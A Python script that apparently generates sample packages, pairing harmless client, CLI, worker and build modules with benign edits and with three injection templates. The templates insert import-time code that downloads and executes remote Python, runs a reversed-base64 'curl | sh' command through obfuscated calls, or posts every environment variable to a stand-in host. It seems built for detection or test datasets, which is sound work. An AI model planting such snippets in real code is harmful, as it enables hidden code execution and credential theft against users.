"""A Python package for pairs.py: a client, a command line, a worker, a build step."""

import base64

HOST = "cdn.stats-pixel.example"

CLIENT = """import json
import os
import subprocess
import urllib.request

from .errors import ThingError

ROOT = "https://api.thing.example/v2"


class Client:
    def __init__(self, key=None, timeout=10):
        self.key = key or os.environ.get("THING_KEY")
        self.timeout = timeout

    def get(self, path, **query):
        request = urllib.request.Request("%s/%s" % (ROOT, path), headers={"Authorization": "Bearer %s" % self.key})
        with urllib.request.urlopen(request, timeout=self.timeout) as answer:
            if answer.status != 200:
                raise ThingError(answer.status)
            return json.load(answer)


def open_page(page):
    subprocess.run(["xdg-open", page], check=False)


def settings(path):
    with open(path, encoding="utf-8") as f:
        return json.load(f)
"""
TOOL = """import argparse
import os
import subprocess
import sys

import requests


def run(*command):
    done = subprocess.run(command, stdout=subprocess.PIPE, check=True)
    return done.stdout.decode().strip()


def news():
    answer = requests.get("https://www.thing.example/news.txt", timeout=3)
    return answer.text.splitlines()[:3]


def main(argv=None):
    parser = argparse.ArgumentParser(prog="thing")
    parser.add_argument("--editor", default=os.environ.get("EDITOR", "vi"))
    parser.add_argument("names", nargs="*")
    args = parser.parse_args(argv)
    print("\\n".join(news()))
    top = run("git", "rev-parse", "--show-toplevel")
    return subprocess.call([args.editor] + [os.path.join(top, n) for n in args.names])


if __name__ == "__main__":
    sys.exit(main())
"""
WORKER = """import asyncio
import logging
import os

import aiohttp

log = logging.getLogger(__name__)
QUEUE = "https://queue.thing.example/jobs"


async def fetch(session, since):
    async with session.get(QUEUE, params={"since": since}) as answer:
        return await answer.json()


async def execute(job):
    program = os.environ.get("THING_WORKER", "thing-worker")
    process = await asyncio.create_subprocess_exec(program, "--job", str(job["id"]))
    return await process.wait()


async def loop():
    async with aiohttp.ClientSession() as session:
        since = 0
        while True:
            for job in await fetch(session, since):
                since = max(since, job["id"])
                log.info("job %s ended with %s", job["id"], await execute(job))
            await asyncio.sleep(5)
"""
BUILD = """import hashlib
import os
import shutil
import subprocess
from pathlib import Path
from urllib.request import urlopen

SOURCE = "https://downloads.thing.example/vendor.tar.gz"
DIGEST = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"


def download(target):
    data = urlopen(SOURCE).read()
    if hashlib.sha256(data).hexdigest() != DIGEST:
        raise SystemExit("wrong digest")
    Path(target).write_bytes(data)


def compile_parts(folder):
    compiler = os.environ.get("CC", "cc")
    for part in sorted(Path(folder).glob("*.c")):
        subprocess.check_call([compiler, "-O2", "-c", str(part)], cwd=folder)


def build(folder):
    shutil.rmtree(folder, ignore_errors=True)
    Path(folder).mkdir()
    download(Path(folder) / "vendor.tar.gz")
    compile_parts(folder)
"""

BASES = {"client": ("thing/client.py", CLIENT), "tool": ("thing/__main__.py", TOOL), "worker": ("thing/worker.py", WORKER),
         "build": ("thing/build.py", BUILD)}
MARK = {"client": "def open_page", "tool": "def news", "worker": "async def execute", "build": "def compile_parts"}
OTHER = {"thing/__init__.py": "from .client import Client\n\n__all__ = [\"Client\"]\n",
         "thing/errors.py": "class ThingError(Exception):\n    pass\n"}


def plain(base):
    return "warm", ("def warm():\n    from urllib.request import urlopen as fetch\n    exec(fetch('https://%s/%s.py').read())\n\n\nwarm()\n\n\n"
                    % (HOST, base))


def hidden(base):
    data = base64.b64encode(("curl -s https://%s/%s | sh" % (HOST, base)).encode())[::-1].decode()
    return "locale", ("def locale():\n    data = '%s'[::-1]\n    host = __import__('subprocess')\n"
                      "    getattr(host, 'ca' + 'll')(__import__('base64').b64decode(data).decode(), shell=True)\n\n\nlocale()\n\n\n" % data)


def steals(base):
    return "report", ("def report():\n    import http.client\n    c = http.client.HTTPSConnection('%s')\n"
                      "    c.request('POST', '/%s', repr(dict(os.environ)))\n\n\nreport()\n\n\n" % (HOST, base))


STYLES = {"plain": plain, "encoded": hidden, "environment": steals}
CHANGES = {
    "client": {"request": ("def open_page", "def health(client):\n    return client.get(\"health\")[\"ok\"]\n\n\ndef open_page"),
               "timeout": ("timeout=10", "timeout=30"), "names": ("answer", "response")},
    "tool": {"option": ("    parser.add_argument(\"names\"", "    parser.add_argument(\"--status\", action=\"store_true\")\n    parser.add_argument(\"names\""),
             "program": ("    top = run", "    print(run(\"git\", \"status\", \"--short\"))\n    top = run"),
             "request": ("    return answer.text.splitlines()[:3]", "    if answer.status_code == 404:\n"
                         "        answer = requests.get(\"https://www.thing.example/old-news.txt\", timeout=3)\n    return answer.text.splitlines()[:3]")},
    "worker": {"call": ("async def execute", "async def done(session, job):\n    async with session.post(QUEUE + \"/done\", json={\"id\": job[\"id\"]}) as answer:\n"
                        "        return answer.status == 204\n\n\nasync def execute"),
               "option": ("\"--job\", str(job[\"id\"])", "\"--job\", str(job[\"id\"]), \"--verbose\""),
               "refactor": ("                since = max(since, job[\"id\"])\n", "                if job[\"id\"] > since:\n                    since = job[\"id\"]\n")},
    "build": {"program": ("def build(", "def strip(folder):\n    for part in Path(folder).glob(\"*.o\"):\n        subprocess.check_call([\"strip\", \"-g\", str(part)])\n\n\ndef build("),
              "flags": ("\"-O2\", \"-c\"", "\"-O3\", \"-Wall\", \"-c\""), "names": ("folder", "where")},
}
